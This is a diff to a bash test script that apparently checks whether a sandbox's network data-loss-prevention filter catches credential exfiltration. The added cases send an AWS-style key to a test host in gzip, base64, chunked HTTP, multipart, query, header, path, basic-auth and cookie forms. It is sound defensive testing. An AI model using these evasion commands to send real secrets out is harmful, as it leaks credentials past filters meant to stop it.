@@ -1,8 +1,8 @@
 #!/usr/bin/env bash
 # Attacks by the network, inside: a line each, as those of attack.c. A case is told apart by a mark in what is sent; whether it has arrived, the
 # runner sees outside. Sourced with SEEN (the file of the observer, outside) set; "twin" is what must work instead.
-# shellcheck disable=SC2016 # evaluated below
-# shellcheck disable=SC2016 # scripts for shells
+# shellcheck disable=SC2016,SC2034 # evaluated below
+# shellcheck disable=SC2016,SC2034 # scripts for shells
 set -u
 # What another attack has planted in the home of this run is none of these.
 export PYTHONNOUSERSITE=1
@@ -140,3 +140,27 @@ secret_case url 'the same, with percent signs' "od -An -v -tx1 | tr -d '\n' | tr
 secret_case json 'the same in JSON' "jq -Rc '{messages: [{role: \"user\", content: .}]}'"
 secret_case json_escaped 'the same, escaped in JSON' "sed 's/A/\\\\u0041/g; s/.*/{\"x\":\"&\"}/'"
 secret_case base64_twice 'the same, base64 twice' 'base64 -w 0 | base64 -w 0'
+# Here it is the request itself that must not arrive: its path holds the mark.
+whole_case() { # ID WHAT COMMAND: with $key and $to
+	local id=network/dlp_$1 m=m-$1-x works=BROKEN to
+	[[ $id == "$filter"* ]] || return 0
+	to=$ok/$m
+	eval "$3" >/dev/null 2>&1
+	eval "$twin_post" >/dev/null 2>&1 && works=WORKS
+	printf '%s\tnetwork\tDLP\tLOOK\t-\x01%s\x01%s\t%s\t-\t%s\n' "$id" "$SEEN" "$m" "$works" "$2"
+}
+whole_case gzip 'a key, packed' 'echo "aws_access_key_id = $key" | gzip | curl -sS -m 5 --data-binary @- -H "Content-Encoding: gzip" "$to"'
+whole_case gzip_base64 'a key, packed, base64' 'echo "aws_access_key_id = $key" | gzip | base64 -w 0 | curl -sS -m 5 --data-binary @- "$to"'
+whole_case chunked 'a key, in chunks of four bytes' 'python3 - "$key" "$to" <<"END"
+import http.client, sys, urllib.parse
+u = urllib.parse.urlsplit(sys.argv[2])
+c = http.client.HTTPSConnection(u.hostname, timeout=5)
+c.request("POST", u.path, iter([("aws_access_key_id = " + sys.argv[1])[i:i + 4].encode() for i in range(0, 40, 4)]), encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
+c.getresponse().read()
+END'
+whole_case multipart 'a key in a file that is uploaded' 'curl -sS -m 5 -F "f=aws_access_key_id = $key" "$to"'
+whole_case query 'a key in the query' 'curl -sS -m 5 "$to?k=$key"'
+whole_case header 'a key in a header' 'curl -sS -m 5 -H "X-Note: $key" "$to"'
+whole_case path 'a key in the path' 'curl -sS -m 5 "$to/$key"'
+whole_case basic 'a key as a password' 'curl -sS -m 5 -u "x:$key" "$to"'
+whole_case cookie 'a key as a cookie' 'curl -sS -m 5 -b "a=$key" "$to"'
